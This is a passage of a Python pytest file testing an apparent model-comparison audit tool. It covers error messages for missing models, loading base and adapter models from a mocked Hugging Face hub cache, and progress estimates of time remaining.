    ("given", "message"),
    [
        ("nowhere/model", "nowhere/model is no folder here: write hub:nowhere/model for a model on the hub"),
        ("/no/such/folder", "/no/such/folder is no folder: correct the path"),
        ("movd", "unknown model 'movd': did you mean 'moved'"),
    ],
)
def test_a_model_that_is_nowhere(world, given, message):
    with pytest.raises(UserError, match=message):
        audit.main(given, str(world / "base"), tasks="colours", root=world)


def test_models_and_adapters_of_the_hub(world, tmp_path, monkeypatch):
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_CACHE", str(tmp_path))
    hub_server.fill_cache(tmp_path, "owner/base", world / "base")
    adapter(world / "base", tmp_path / "adapter", named="owner/base")
    hub_server.fill_cache(tmp_path, "owner/adapter", tmp_path / "adapter")
    _, local = run(world, "base", "adapter")
    options = {"tasks": "colours,sums", "root": world, "out": str(tmp_path / "hub.html")}
    audit.main("hub:owner/base", f"hub:owner/adapter@{hub_server.COMMIT}", **options)
    found = read_json(tmp_path / "hub.json")
    assert found["base"]["kept"] and found["base"]["commit"] == hub_server.COMMIT  # scored before, as a local folder
    assert found["tasks"] == local["tasks"] and found["general"] == local["general"]
    audit.main("hub:owner/adapter", str(world / "moved"), **options)  # whose base is fetched from the hub
    assert read_json(tmp_path / "hub.json")["base"]["adapter_of"] == "owner/base"
    with pytest.raises(UserError, match="model 'owner/absent' at revision main is missing or incomplete"):
        audit.main("hub:owner/absent", str(world / "moved"), **options)


def test_the_time_left_of_the_whole_audit_is_told_now_and_then(world, monkeypatch, capsys):
    # a quarter of this pass took 60 s, so 180 s of it are left; the other model will take 100 + 180 s
    assert progress.time_left(elapsed=100.0, in_pass=60.0, share=0.25, models=1) == 180 + 280
    monkeypatch.setattr(progress, "EVERY", 0.0)
    run(world, "base", "moved", batch_size=7)
    said = capsys.readouterr().err
    run(world, "moved", "base", batch_size=7)
    assert "base: movement of the weights, 100 %; about 0 s left in all" in capsys.readouterr().err
    assert "base: scoring choices, 100 %; about" in said and "moved: scoring text, 100 %; about 0 s left in all" in said
